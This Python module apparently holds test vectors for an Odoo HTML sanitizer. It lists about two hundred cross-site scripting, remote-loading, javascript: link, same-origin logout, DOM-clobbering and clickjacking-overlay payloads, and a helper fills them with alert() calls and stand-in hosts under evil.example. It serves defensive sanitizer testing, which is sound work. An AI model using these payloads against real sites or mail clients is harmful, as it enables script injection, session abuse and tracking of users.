"""HTML that tries to run, to load, to leave its place or to use the host against its reader.

``JS`` stands for a statement that runs, ``EVIL`` for an address of the sender's, ``ODOO`` for
the host's own. Each vector is told by its number, wherever it bites.
"""

# ruff: noqa: E501 - what is sent is one line

RUNNING = (
    "<script>JS</script>",
    "<SCRIPT SRC=EVIL/x.js></SCRIPT>",
    "<script/src=EVIL/y.js></script>",
    "<script\x0c>JS</script\x0c>",
    "<scr<script>ipt>JS</script>",
    "<script>//<!--\nJS</script>",
    "<script type=module>JS</script>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/zzleak"]}]}</script>',
    "<img src=x onerror=JS>",
    "<img/src='x'/onerror=JS>",
    "<img src=x onerror\x0c=\nJS>",
    "<IMG SRC=x oNeRrOr=&#74;S onerror=JS>",
    '<img """><script>JS</script>">',
    "<img src=x:gibberish onerror=JS alt='>'>",
    "<image src=x onerror=JS>",
    "<body onload=JS>",
    "<body onpageshow=JS><p>x",
    "<div onmouseover=JS>over</div>",
    "<p onpointerover=JS onmouseenter=JS>over</p>",
    "<b tabindex=1 onfocus=JS autofocus>x</b>",
    "<details open ontoggle=JS><summary>x</summary>y</details>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=JS>x</b>",
    "<b style='transition:all 1s' ontransitionrun=JS>x</b>",
    "<svg onload=JS>",
    "<svg/onload=JS//",
    "<svg><script>JS</script></svg>",
    "<svg><script href=EVIL/s.js /></svg>",
    "<svg><style><img src=x onerror=JS></style></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=JS></svg>",
    "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script>JS</script>]]></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=JS>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=JS&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "<math><annotation-xml encoding='text/html'><style></math><img src=x onerror=JS></style>",
    "<math><mi//xlink:href='x'><style><img src=x onerror=JS>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=JS></style>",
    "<template><script>JS</script></template><template shadowrootmode=open><img src=x onerror=JS></template>",
    "<style><img src=x onerror=JS></style>",
    "<style></style\t><img src=x onerror=JS>",
    "<title><p title='</title><img src=x onerror=JS>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=JS>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=JS>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=JS>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=JS>'></noframes>",
    "<iframe><p title='</iframe><img src=x onerror=JS>'></iframe>",
    "<select><option><style></select><img src=x onerror=JS></style></select>",
    "<table><caption><select><script>JS</script></select></table>",
    "<iframe srcdoc='<script>JS</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=&#x61;lert(NUMBER)&gt;'></iframe>",
    "<iframe src=javascript:JS></iframe>",
    "<iframe src='&#9;java&#10;script&colon;JS'></iframe>",
    "<frameset onload=JS><frame src=javascript:JS></frameset>",
    "<object data=javascript:JS></object>",
    "<object data='data:text/html,<script>JS</script>'></object>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="JS"/>\'>',
    "<applet code=javascript:JS archive=EVIL/a.jar></applet>",
    "<video src=x onerror=JS></video>",
    "<audio src=x onerror=JS></audio>",
    "<video><source onerror=JS src=x></video>",
    "<marquee onstart=JS>x</marquee>",
    "<input autofocus onfocus=JS>",
    "<select autofocus onfocus=JS></select>",
    "<keygen autofocus onfocus=JS>",
    "<button autofocus onfocus=JS>x</button>",
    "<!--><img src=x onerror=JS>-->",
    "<!---><img src=x onerror=JS>-->",
    "<!-- --!><img src=x onerror=JS> -->",
    "<!--[if gte IE 4]><script>JS</script><![endif]--><!--[if !mso]><!--><script>JS</script><!--<![endif]-->",
    "<![CDATA[><script>JS</script>]]>",
    "<!DOCTYPE x [<!ENTITY e '<script>JS</script>'>]><p>&e;</p>",
    "<?xml version='1.0'?><?x ><img src=x onerror=JS>?>",
    "</ p='><img src=x onerror=JS>'>",
    "<a/b='><img src=x onerror=JS>'",
    "<p title='`'\"><img src=x onerror=JS>'>x</p>",
    "<p title='<!-- encoding=\"x\" --><!-- --!><img src=x onerror=JS> -->'>x</p>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script><html:script>JS</html:script>",
    "<a id=a tabindex=1 style='display:block;content-visibility:auto' oncontentvisibilityautostatechange=JS>x</a>",
    "<p><o:p title='><img src=x onerror=JS>'>x</o:p></p>",
    "<div id=Signature><img src=x onerror=JS></div>",
    "<blockquote type=cite cite=javascript:JS><img src=x onerror=JS></blockquote>",
    "<plaintext><img src=x onerror=JS>",
    "\ufeff<\x00script>JS</script>",
    "\x1b$B<script>JS</script>\x1b(B",
)

LINKS = (
    "<a href=javascript:JS>x</a>",
    "<a href=' &#14; JaVaScRiPt:JS'>x</a>",
    "<a href='java\tscr\nipt:JS'>x</a>",
    "<a href='jav&Tab;ascript&colon;JS'>x</a>",
    "<a href='\u200bjavascript:JS'>x</a>",
    "<a href='//EVILHOST/%0ajavascript:JS' onclick=JS>x</a>",
    "<a href=vbscript:JS>x</a>",
    "<a href='data:text/html,<script>JS</script>'>x</a>",
    "<a href='blob:null/JS'>x</a><a href='view-source:EVIL/'>y</a><a href='file:///etc/passwd'>z</a>",
    "<a href='intent://x#Intent;end'>x</a><a href='ms-msdt:/id'>y</a><a href='search-ms:q'>z</a>",
    "<a href='https://x.example/' ping='EVIL/ping ODOO/zzleak'>x</a>",
    "<svg><a xlink:href=javascript:JS><text y=20>x</text></a></svg>",
    "<math><maction href=javascript:JS>x</maction></math>",
    "<map name=m><area shape=rect coords=0,0,99,99 href=javascript:JS></map><img usemap=#m src=cid:a>",
    "<form action=javascript:JS><input type=submit><button formaction=javascript:JS>x</button></form>",
    "<form id=f action=EVIL/form><input name=password></form><button form=f>x</button>",
    "<form action=/web/session/logout?zzleak method=post><div><form><button>x</button></form>",
    "<isindex action=javascript:JS type=submit>",
    "<a href='/web/session/logout?zzleak'>x</a><a href='?debug=1'>y</a><a href='#'>z</a>",
    "<base href=javascript:JS//><a href=x>x</a>",
)

LOADING = (
    "<img src=EVIL/1.png>",
    "<img src=//EVILHOST/2.png>",
    "<img src='http:\\\\EVILHOST\\3.png'>",
    "<img src=' \x01 ht\ntp://EVILHOST/4.png'>",
    "<img srcset='EVIL/5.png 1x, /zzleak 2x'>",
    "<img src=EVIL/6.png srcset='https://x.example/6.png, /zzleak' sizes=100vw loading=eager>",
    "<img lowsrc=EVIL/7.png dynsrc=EVIL/8.png longdesc=EVIL/9>",
    "<picture><source srcset=EVIL/10.png><img src=cid:none></picture>",
    "<input type=image src=EVIL/11.png>",
    "<video src=EVIL/12.mp4 poster=EVIL/13.png autoplay></video>",
    "<audio src=EVIL/14.ogg autoplay></audio>",
    "<video autoplay><source src=EVIL/15.mp4><track default src=EVIL/16.vtt></video>",
    "<table background=EVIL/17.png><tr><td background=//EVILHOST/18.png>x</table>",
    "<body background=EVIL/19.png>x</body>",
    "<link rel=stylesheet href=EVIL/20.css>",
    "<link rel=prefetch href=EVIL/21><link rel=preload as=image href=EVIL/22.png>",
    "<link rel=preconnect href=EVIL><link rel=dns-prefetch href=//dns.EVILHOST>",
    "<link rel='icon' href=EVIL/23.ico><link rel=modulepreload href=EVIL/24.js>",
    "<style>@import 'EVIL/25.css'; @import url(//EVILHOST/26.css);</style>",
    "<style>body{background:url(EVIL/27.png)}</style>",
    "<style>@font-face{font-family:f;src:url(EVIL/28.woff)} p{font-family:f}</style><p>x</p>",
    "<p style='background:url(EVIL/29.png)'>x</p>",
    "<p style='background-image:u\\72l(EVIL/30.png)'>x</p>",
    "<p style='background:url(&#x22;EVIL/31.png&quot;)'>x</p>",
    "<p style='background-image:image-set(&quot;EVIL/32.png&quot; 1x)'>x</p>",
    "<p style='background-image:-webkit-cross-fade(url(EVIL/33.png),url(EVIL/34.png),50%)'>x</p>",
    "<p style='list-style:url(EVIL/35.png)'><li style='list-style-image:url(EVIL/36.png)'>x</p>",
    "<p style='border-image:url(EVIL/37.png) 30;content:url(EVIL/38.png);cursor:url(EVIL/39.cur),auto'>x</p>",
    "<p style='filter:url(EVIL/40.svg#f);mask-image:url(EVIL/41.png);clip-path:url(EVIL/42.svg#c)'>x</p>",
    "<p style='--a:url(EVIL/43.png);background:var(--a)'>x</p>",
    "<p style='background:/**/url(/**/EVIL/44.png)'>x</p>",
    "<p style='color:red;}*{background:url(EVIL/45.png)}'>x</p>",
    "<p style=\"font-family:'a;background:url(EVIL/46.png)'\">x</p>",
    "<p style='font-family:&quot;a\\&quot;;background:url(EVIL/47.png);x:&quot;'>x</p>",
    "<svg><image href=EVIL/48.png /><image xlink:href=EVIL/49.png width=9 height=9 /></svg>",
    "<svg><use href=EVIL/50.svg#x /><feImage href=EVIL/51.png /></svg>",
    "<svg><filter id=f><feImage xlink:href=EVIL/52.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<iframe src=EVIL/53></iframe><frame src=EVIL/54>",
    "<object data=EVIL/55.svg><param name=movie value=EVIL/56.swf></object><embed src=EVIL/57.swf>",
    "<meta http-equiv=refresh content='0;url=EVIL/58'>",
    "<meta http-equiv=refresh content='0;/zzleak'>",
    "<base href=EVIL/><img src=59.png>",
    "<bgsound src=EVIL/60.wav><xml src=EVIL/61.xml></xml>",
    "<portal src=EVIL/62></portal><fencedframe src=EVIL/63></fencedframe>",
    "<p title='<!-- encoding=\"x\" --><!-- --!><img src=EVIL/64.png> -->'>x</p>",
    "<img alt='<!-- encoding=\"x\" --><!-- --!><img src=EVIL/65.png> -->' src=EVIL/66.png>",
    "<td background='EVIL/67.png?<!-- encoding=\"x\" --><!-- --!><img/src=EVIL/68.png> -->'>x</td>",
    "<a href='https://x.example/?<!-- encoding=\"x\" --><!-- --!><img/src=EVIL/69.png> -->'>x</a>",
    "<font face='<!-- encoding=\"x\" --><!-- --!><img src=EVIL/70.png> -->'>x</font>",
    "<p data-mail-src=EVIL/71.png data-mail-background=EVIL/72.png title=' data-mail-src=EVIL'>x</p>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="EVIL/73.png"/></svg>\'>',
)

SAME_ORIGIN = (
    "<img src=/web/session/logout?zzleak>",
    "<img src=ODOO/web/session/logout?zzleak>",
    "<img src='/web/image/1?zzleak'>",
    "<img src='web/image/1?zzleak'>",
    "<table background=/odoo/action-1?zzleak><tr><td>x</table>",
    "<p style='background:url(/web/session/logout?zzleak)'>x</p>",
    "<p style='background:url(ODOO/odoo/settings?zzleak)'>x</p>",
    "<link rel=prefetch href=/web/session/logout?zzleak>",
    "<iframe src='/odoo?zzleak'></iframe>",
    "<img src='cid:/web/session/logout?zzleak'>",
)

HOST = (
    "<p t-att-onclick='JS' t-out='JS' t-on-click='JS' t-esc='1'>x</p>",
    "<t t-call='web.layout'><t t-set='x' t-value='JS'/>x</t>",
    "<a data-oe-model=res.users data-oe-id=2 class=o_mail_redirect href='#'>x</a>",
    "<a class='o_channel_redirect o-mail-Message-body' data-oe-id=1>x</a>",
    '<div data-embedded=file data-embedded-props=\'{"fileData":{"url":"EVIL"}}\'>x</div>',
    '<div data-embedded=video data-embedded-props=\'{"videoId":"zzleak","platform":"youtube"}\'></div>',
    "<div data-oe-protected=true data-oe-expression=EVIL class='media_iframe_video' data-src=EVIL/f>x</div>",
    "<button data-bs-toggle=popover data-bs-html=true data-bs-content='<img src=x onerror=JS>'>x</button>",
    "<a data-bs-toggle=tooltip data-bs-html=true title='<img src=x onerror=JS>'>x</a>",
    "<a data-tooltip-template=x data-tooltip='<img src=x onerror=JS>' data-tooltip-info='{}'>x</a>",
    "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=JS>y</div>",
    "<div class='modal show d-block fixed-top vh-100 vw-100 o_dialog'><img src=x onerror=JS></div>",
    "<div data-snippet=s_website_form class='s_embed_code o_facebook_page'><template><script>JS</script></template></div>",
    "<section class='o_mass_mailing_unsubscribe' data-mailing-id=1><img src=x onerror=JS></section>",
    "<a id=owl name=odoo>x</a><form id=document name=body><input name=attributes><input id=cookie></form>",
    "<img name=currentScript><img name=getElementById src=x onerror=JS><a id=odoo><a id=odoo name=csrf_token href=EVIL>",
    "<i class='fa fa-3x oi o_nocontent_help'></i><div class=o_loading_indicator>x</div>",
    "<div contenteditable=true is=x-y slot=z part=q>x</div>",
)

COVERING = (
    "<div style='position:fixed;inset:0;z-index:9999'><a href=EVIL>COVERING</a></div>",
    "<a href=EVIL style='position:absolute;left:-900px;top:-900px;width:9999px;height:9999px'>COVERING</a>",
    "<a href=EVIL style='display:block;float:right;width:5000px;height:500px'>COVERING</a>",
    "<div dir=rtl><table width=5000 height=500><tr><td><a href=EVIL>COVERING</a></table></div>",
    "<div style='direction:rtl'><div style='width:5000px'><a href=EVIL>COVERING</a></div></div>",
    "<table align=right width=5000><tr><td><a href=EVIL>COVERING</a></td></tr></table>",
    "<a href=EVIL style='font-size:2000px;line-height:0'>COVERING</a>",
    "<div style='height:0;line-height:0'><a href=EVIL style='font-size:900px'>COVERING</a></div>",
    "<div style='margin-top:-5000px;margin-left:-5000px'><a href=EVIL>COVERING</a></div>",
    "<div style='margin:calc(0px - 900px)'><a href=EVIL>COVERING</a></div>",
    "<p style='letter-spacing:-400px;white-space:nowrap'><a href=EVIL>COVERING COVERING</a></p>",
    "<p style='word-spacing:-4000px;white-space:nowrap'><a href=EVIL>COVERING COVERING</a></p>",
    "<p style='text-indent:-2000px'><a href=EVIL>COVERING</a></p>",
    "<div style='transform:scale(99);translate:-99px;rotate:1deg;zoom:9'><a href=EVIL>COVERING</a></div>",
    "<div style='height:20px;overflow:visible'><a href=EVIL style='display:block;height:9000px'>COVERING</a></div>",
    "<div style='width:200vw;min-width:200vw;height:200vh'><a href=EVIL>COVERING</a></div>",
    "<div style='pos\\69tion:fi\\78 ed;top:0;left:0;right:0;bottom:0'><a href=EVIL>COVERING</a></div>",
    "<style>*{position:fixed;top:0} .o_main_navbar{display:none}</style><a href=EVIL>COVERING</a>",
    "<div style='height:99999px;max-height:none;min-height:9999px'><a href=EVIL>COVERING</a></div>",
    "<table height=9999 style='border-top:9000px solid red'><tr><td style='padding:4000px 0'><a href=EVIL style='line-height:9000px'>COVERING</a></table>",
)

VECTORS = (*RUNNING, *LINKS, *LOADING, *SAME_ORIGIN, *HOST, *COVERING)

# Where no HTML belongs: subjects, names of people and files, header lines.
WORDS = (
    "<img src=x onerror=JS>",
    '"><script>JS</script><img src=EVIL/w.png>',
    "{{ JS }} ${JS} <%= JS %> <t t-out='JS'/>",
    "'-JS-' javascript:JS <svg/onload=JS>",
)
TEXT = (
    "javascript:JS http://x.example/'onmouseover='JS\n"
    'http://x.example/"onmouseover="JS <img src=EVIL/t.png onerror=JS>\n'
    "www.x.example/<script>JS</script> mailto:a@x.example?subject=<b>\n"
    "> <img src=EVIL/q.png>\n-- \n</pre></div><script>JS</script>\n"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="JS">'
    '<script>JS</script><image href="EVIL/a.png" width="9" height="9"/>'
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/f"/></foreignObject></svg>'
)
PAGE = (
    "<html><head><meta http-equiv=refresh content='1;url=EVIL/r'><script>JS</script></head>"
    "<body onload=JS><img src=EVIL/p.png><form action=EVIL/f><input></form></body></html>"
)


def written(vector, number, odoo):
    """The vector as it is sent: what it does tells its number."""
    host = f"v{number}.evil.example"
    return (
        vector.replace("EVILHOST", host)
        .replace("EVIL", f"http://{host}")
        .replace("ODOO", odoo)
        .replace("NUMBER", str(number))
        .replace("JS", f"alert({number})")
    )
